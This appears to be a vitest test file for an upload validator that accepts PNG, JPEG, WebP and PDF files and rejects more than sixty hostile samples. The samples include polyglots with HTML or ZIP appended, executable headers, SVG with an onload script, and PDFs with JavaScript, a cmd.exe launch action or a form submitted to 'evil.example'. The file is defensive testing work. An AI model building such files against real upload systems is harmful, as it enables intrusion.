import { describe, expect, test } from 'vitest';
import fc from 'fast-check';
import { type KeptType, checkFile } from '../../../shared/files/check-file.ts';
import { Problem } from '../../../shared/contract/problem.ts';
import * as make from '../../support/files.ts';

const { bytesOf, jpeg, pdf, png, webp, zip } = make;
const [asPng, asJpeg, asWebp, asPdf] = ['image/png', 'image/jpeg', 'image/webp', 'application/pdf'] as const;
const html = '<html><script>alert(1)</script></html>';
const cut = (bytes: Uint8Array, from: number, to?: number) => bytes.subarray(from, to);
const altered = (bytes: Uint8Array, at: number, value: number) => {
  const copy = Uint8Array.from(bytes);
  copy[at < 0 ? copy.length + at : at] = value;
  return copy;
};
const idat = make.pngChunk('IDAT', [1]);
const pngOf = (...chunks: Uint8Array[]) => bytesOf(make.pngSignature, ...chunks);
const jpegOf = (...parts: (Uint8Array | number[])[]) => bytesOf(make.jpegStart, ...parts);
const still = make.vp8(16, 8);
const extended = (flags: number, ...chunks: Uint8Array[]) => make.webpOf(make.vp8x(16, 8, flags), ...chunks);

const good: [name: string, mediaType: KeptType, bytes: Uint8Array, size: object | null][] = [
  ['a PNG', asPng, png(3, 2), { width: 3, height: 2 }],
  ['a PNG with text', asPng, png(1, 1, make.pngChunk('tEXt', 'Title\0Mapa')), { width: 1, height: 1 }],
  ['a PNG of 50 megapixels', asPng, pngOf(make.pngHeader(10_000, 5000), idat, make.pngEnd), { width: 10_000, height: 5000 }],
  ['a JPEG', asJpeg, jpeg(16, 8), { width: 16, height: 8 }],
  ['a progressive JPEG', asJpeg, jpegOf(make.jpegFrame(9, 7, 0xc2), make.jpegScan, make.jpegScan, make.jpegEnd), { width: 9, height: 7 }],
  ['a JPEG with fill bytes', asJpeg, jpegOf(make.jpegFrame(9, 7), make.jpegScan, [0xff, 0xff], make.jpegEnd), { width: 9, height: 7 }],
  ['a WebP', asWebp, webp(16, 8), { width: 16, height: 8 }],
  ['a lossless WebP', asWebp, make.webpOf(make.vp8l(300, 200)), { width: 300, height: 200 }],
  ['an extended WebP', asWebp, extended(0, still, make.webpChunk('EXIF', 'abc')), { width: 16, height: 8 }],
  ['a PDF', asPdf, pdf(), null],
  ['a PDF with white space after it', asPdf, pdf('', '\r\n \n'), null],
  ['a PDF with short names by chance in its data', asPdf, pdf('4 0 obj\n<< /Length 9 >>\nstream\n/JS /AA x\nendstream\nendobj'), null],
];

test.each(good)('%s is taken', (_, mediaType, bytes, size) => {
  expect(checkFile(bytes, mediaType)).toEqual(size);
});

const hostile: [name: string, mediaType: string, bytes: Uint8Array][] = [
  ['nothing', asPng, bytesOf()],
  ['HTML said to be a PNG', asPng, bytesOf(html)],
  ['SVG said to be a WebP', asWebp, bytesOf('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['SVG as what it is', 'image/svg+xml', bytesOf('<svg xmlns="http://www.w3.org/2000/svg"/>')],
  ['a GIF as what it is', 'image/gif', bytesOf('GIF89a\x01\0\x01\0\0\0\0;')],
  ['a GIF said to be a PNG', asPng, bytesOf('GIF89a\x01\0\x01\0\0\0\0;')],
  ['a program for Windows', asPdf, bytesOf('MZ\x90\0')],
  ['a program for Linux', asJpeg, bytesOf('\x7fELF\x02\x01')],
  ['a ZIP said to be a PDF', asPdf, zip()],
  ['a type named after an object’s own machinery', 'constructor', png()],
  ['a JPEG said to be a PNG', asPng, jpeg()],
  ['a PNG said to be a JPEG', asJpeg, png()],
  ['a PNG said to be a PDF', asPdf, png()],
  ['a PDF said to be a WebP', asWebp, pdf()],
  ['a sound in RIFF said to be a WebP', asWebp, bytesOf('RIFF\x04\0\0\0WAVE')],

  ['a PNG with a byte after it', asPng, bytesOf(png(), [0])],
  ['a PNG with HTML after it', asPng, bytesOf(png(), html)],
  ['a PNG with a ZIP after it', asPng, bytesOf(png(), zip())],
  ['a PNG with a second PNG after it', asPng, bytesOf(png(), png())],
  ['a PNG with a ZIP inside a chunk', asPng, png(1, 1, make.pngChunk('tEXt', bytesOf('a\0', zip())))],
  ['a PNG without its end', asPng, cut(png(), 0, -12)],
  ['a PNG cut in its data', asPng, cut(png(), 0, 50)],
  ['a PNG of a signature alone', asPng, bytesOf(make.pngSignature)],
  ['a PNG without data', asPng, pngOf(make.pngHeader(1, 1), make.pngEnd)],
  ['a PNG with a wrong checksum', asPng, altered(png(), 20, 9)],
  ['a PNG whose last checksum is wrong', asPng, altered(png(), -1, 0)],
  ['a PNG of no width', asPng, pngOf(make.pngHeader(0, 1), idat, make.pngEnd)],
  ['a PNG of a pixel row too many', asPng, pngOf(make.pngHeader(10_000, 5001), idat, make.pngEnd)],
  ['a PNG of 4 billion by 4 billion', asPng, pngOf(make.pngHeader(0xffff_ffff, 0xffff_ffff), idat, make.pngEnd)],
  ['a PNG of an unknown colour type', asPng, pngOf(make.pngHeader(1, 1, [8, 5, 0, 0, 0]), idat, make.pngEnd)],
  ['a PNG of a depth that its colour type has not', asPng, pngOf(make.pngHeader(1, 1, [4, 2, 0, 0, 0]), idat, make.pngEnd)],
  ['a PNG of an unknown compression', asPng, pngOf(make.pngHeader(1, 1, [8, 2, 1, 0, 0]), idat, make.pngEnd)],
  ['a PNG with two headers', asPng, png(1, 1, make.pngHeader(9, 9))],
  ['a PNG whose header is not first', asPng, pngOf(make.pngChunk('tEXt', 'a\0b'), make.pngHeader(1, 1), idat, make.pngEnd)],
  ['a PNG whose data is interrupted', asPng, pngOf(make.pngHeader(1, 1), idat, make.pngChunk('tEXt', 'a\0b'), idat, make.pngEnd)],
  ['a PNG with a critical chunk that nobody knows', asPng, png(1, 1, make.pngChunk('EVIL', html))],
  ['a PNG with a chunk without a name', asPng, png(1, 1, make.pngChunk('\0\0\0\0', html))],
  ['a PNG whose end holds something', asPng, pngOf(make.pngHeader(1, 1), idat, make.pngChunk('IEND', html))],
  ['an animated PNG', asPng, png(1, 1, make.pngChunk('acTL', [0, 0, 0, 2, 0, 0, 0, 0]))],
  [
    'a PNG with frames',
    asPng,
    png(
      1,
      1,
      make.pngChunk(
        'fcTL',
        Array.from({ length: 26 }, () => 0),
      ),
    ),
  ],

  ['a JPEG with HTML after it', asJpeg, bytesOf(jpeg(), html)],
  ['a JPEG with a ZIP after it', asJpeg, bytesOf(jpeg(), zip())],
  ['a JPEG with a second JPEG after it', asJpeg, bytesOf(jpeg(), jpeg())],
  ['a JPEG with a line end after it', asJpeg, bytesOf(jpeg(), '\n')],
  ['a JPEG with a ZIP in its comment', asJpeg, jpeg(4, 4, make.jpegSegment(0xfe, [...zip()]))],
  ['a JPEG without its end', asJpeg, cut(jpeg(), 0, -2)],
  ['a JPEG of its start alone', asJpeg, bytesOf([0xff, 0xd8, 0xff])],
  ['a JPEG without a frame', asJpeg, jpegOf(make.jpegScan, make.jpegEnd)],
  ['a JPEG without a scan', asJpeg, jpegOf(make.jpegFrame(4, 4), make.jpegEnd)],
  ['a JPEG with two frames', asJpeg, jpegOf(make.jpegFrame(4, 4), make.jpegFrame(9, 9), make.jpegScan, make.jpegEnd)],
  ['a JPEG of no height', asJpeg, jpeg(4, 0)],
  ['a JPEG of 65,535 by 65,535', asJpeg, jpeg(65_535, 65_535)],
  ['a lossless JPEG', asJpeg, jpegOf(make.jpegFrame(4, 4, 0xc3), make.jpegScan, make.jpegEnd)],
  ['a JPEG of several pictures', asJpeg, jpeg(4, 4, make.jpegSegment(0xe2, 'MPF\0MM\0*'))],
  ['a JPEG whose segment is longer than the file', asJpeg, jpegOf([0xff, 0xe1, 0xff, 0xff], [1, 2, 3])],
  ['a JPEG whose segment has no length', asJpeg, jpegOf([0xff, 0xe1, 0, 0], make.jpegEnd)],
  ['a JPEG with a marker that nobody knows', asJpeg, jpeg(4, 4, make.jpegSegment(0x02, [1, 2]))],
  ['a JPEG with text between its segments', asJpeg, jpeg(4, 4, bytesOf(html))],

  ['a WebP with HTML after it', asWebp, bytesOf(webp(), html)],
  ['a WebP with a chunk after the end that it says', asWebp, bytesOf(extended(0, still), make.webpChunk('EXIF', 'abc'))],
  ['a WebP with a ZIP as a chunk', asWebp, extended(0, still, make.webpChunk('EXIF', zip()))],
  ['a WebP shorter than it says', asWebp, cut(webp(), 0, -2)],
  ['a WebP without a picture', asWebp, make.webpOf()],
  ['a WebP with two pictures', asWebp, extended(0, still, still)],
  ['an animated WebP', asWebp, extended(2, make.webpChunk('ANIM', [0, 0, 0, 0, 0, 0]), make.webpChunk('ANMF', [...still]))],
  ['a WebP that says it is animated', asWebp, extended(2, still)],
  ['a WebP with a chunk that nobody knows', asWebp, extended(0, still, make.webpChunk('EVIL', html))],
  ['a WebP with a chunk beside its only one', asWebp, make.webpOf(still, make.webpChunk('EXIF', 'a'))],
  ['a WebP of another size than its canvas', asWebp, make.webpOf(make.vp8x(9, 9), still)],
  ['a WebP of 16,383 by 16,383', asWebp, webp(16_383, 16_383)],
  ['a WebP of no width', asWebp, webp(0, 8)],
  ['a WebP that is no key frame', asWebp, make.webpOf(make.webpChunk('VP8 ', [0x11, 0, 0, 0x9d, 1, 0x2a, 1, 0, 1, 0]))],
  ['a lossless WebP of another version', asWebp, make.webpOf(make.webpChunk('VP8L', [0x2f, 0, 0, 0, 0xe0, 0]))],
  ['a WebP whose padding says something', asWebp, make.webpOf(bytesOf(cut(still, 0, -1), [1]))],

  ['a PDF with HTML after it', asPdf, pdf('', `\n${html}`)],
  ['a PDF with a ZIP after it', asPdf, bytesOf(pdf(), zip())],
  [
    'a PDF with a ZIP whose comment is the end of the PDF',
    asPdf,
    bytesOf(cut(pdf(), 0, -40), zip(String.fromCharCode(...cut(pdf(), -40)))),
  ],
  ['a PDF after something else', asPdf, bytesOf('GIF89a', pdf())],
  ['a PDF after a line end', asPdf, bytesOf('\n', pdf())],
  ['a PDF of no known version', asPdf, bytesOf('%PDF-9.9\n', cut(pdf(), 9))],
  ['a PDF cut off', asPdf, cut(pdf(), 0, -20)],
  ['a PDF without its table', asPdf, bytesOf('%PDF-1.4\nstartxref\n3\n%%EOF\n')],
  ['a PDF whose table is beyond its end', asPdf, bytesOf('%PDF-1.4\nstartxref\n99999\n%%EOF\n')],
  ['a PDF without the place of its table', asPdf, bytesOf('%PDF-1.4\nxref\n%%EOF\n')],
  ['a PDF that runs JavaScript', asPdf, pdf('4 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj')],
  ['a PDF with JavaScript in a stream', asPdf, pdf('4 0 obj\n<< /Length 40 >>\nstream\n<< /S /JavaScript >>\nendstream\nendobj')],
  ['a PDF that spells JavaScript otherwise', asPdf, pdf('4 0 obj\n<< /S /J#61va#53cript >>\nendobj')],
  ['a PDF that hides a script behind a stream without end', asPdf, pdf('4 0 obj\n<< >>\nstream\n<< /JS (x) >>')],
  ['a PDF that names a script alone', asPdf, pdf('4 0 obj\n<< /JS (x) >>\nendobj')],
  ['a PDF that starts a program', asPdf, pdf('4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj')],
  ['a PDF that acts when opened', asPdf, pdf('', '\n', '/OpenAction 4 0 R ')],
  ['a PDF that acts on events', asPdf, pdf('', '\n', '/AA << /WC 4 0 R >> ')],
  ['a PDF with a file inside', asPdf, pdf('4 0 obj\n<< /Type /Filespec /EF << /F 5 0 R >> >>\n5 0 obj << /Type /EmbeddedFile >>\nendobj')],
  ['a PDF that opens another', asPdf, pdf('4 0 obj\n<< /S /GoToR /F (a.pdf) >>\nendobj')],
  ['a PDF with a form that is sent', asPdf, pdf('4 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj')],
  ['a PDF with a form of its own program', asPdf, pdf('', '\n', '/AcroForm << /XFA 4 0 R >> ')],
  ['a PDF with a film', asPdf, pdf('4 0 obj\n<< /Subtype /RichMedia >>\nendobj')],
  ['an encrypted PDF', asPdf, pdf('', '\n', '/Encrypt 4 0 R ')],
];

test('there are more than sixty hostile uploads, each of its own', () => {
  expect(hostile.length).toBeGreaterThanOrEqual(60);
  expect(new Set(hostile.map(([name]) => name)).size).toBe(hostile.length);
});

const refusalOf = (bytes: Uint8Array, mediaType: string): unknown => {
  try {
    checkFile(bytes, mediaType);
    return null;
  } catch (error) {
    return error;
  }
};
const isUnsafe = (error: unknown) => error instanceof Problem && error.code === 'unsafe-file' && error.detail !== undefined;

test.each(hostile)('%s is refused', (_, mediaType, bytes) => {
  expect(refusalOf(bytes, mediaType)).toMatchObject({ code: 'unsafe-file', detail: { es: expect.any(String), en: expect.any(String) } });
});

const kinds = [asPng, asJpeg, asWebp, asPdf] as const;

describe.each(good)('%s', (_, mediaType, bytes) => {
  test('cut anywhere is refused', () => {
    const trimmed = mediaType === asPdf ? String.fromCharCode(...bytes).trimEnd().length : bytes.length;
    const passing = Array.from({ length: trimmed }, (__, length) => length).filter(
      (length) => !isUnsafe(refusalOf(cut(bytes, 0, length), mediaType)),
    );
    expect(passing).toEqual([]);
  });

  test('with anything after it is refused', () => {
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 1, maxLength: 100 }), (more) => {
        const blank = mediaType === asPdf && more.every((byte) => [0, 9, 10, 12, 13, 32].includes(byte));
        expect(blank || isUnsafe(refusalOf(bytesOf(bytes, more), mediaType))).toBe(true);
      }),
    );
  });

  test('with bytes changed is refused as unsafe or still whole: nothing else is thrown', () => {
    const change = fc.tuple(fc.nat(bytes.length - 1), fc.nat(255));
    fc.assert(
      fc.property(fc.array(change, { minLength: 1, maxLength: 4 }), (changes) => {
        const error = refusalOf(
          changes.reduce((one, [at, value]) => altered(one, at, value), bytes),
          mediaType,
        );
        expect(error === null || isUnsafe(error)).toBe(true);
      }),
      { numRuns: 500 },
    );
  });
});

test('a PNG with any byte changed is refused, but for what its checksums do not cover', () => {
  const whole = png(3, 2);
  const passing = Array.from(whole, (byte, at) => altered(whole, at, byte ^ 0x20)).filter((bytes) => refusalOf(bytes, asPng) === null);
  expect(passing).toEqual([]);
});

test.each(kinds)('noise behind the beginning of %s is refused', (mediaType) => {
  const start = { [asPng]: make.pngSignature, [asJpeg]: '\xff\xd8\xff', [asWebp]: 'RIFF\x20\0\0\0WEBP', [asPdf]: '%PDF-1.4\n' }[mediaType];
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 300 }), (noise) => {
      expect(isUnsafe(refusalOf(bytesOf(start, noise), mediaType))).toBe(true);
    }),
  );
});

test('a PDF of many streams without end is looked at in one pass', () => {
  expect(refusalOf(pdf('<<>>\nstream\n'.repeat(200_000)), asPdf)).toBeNull();
});
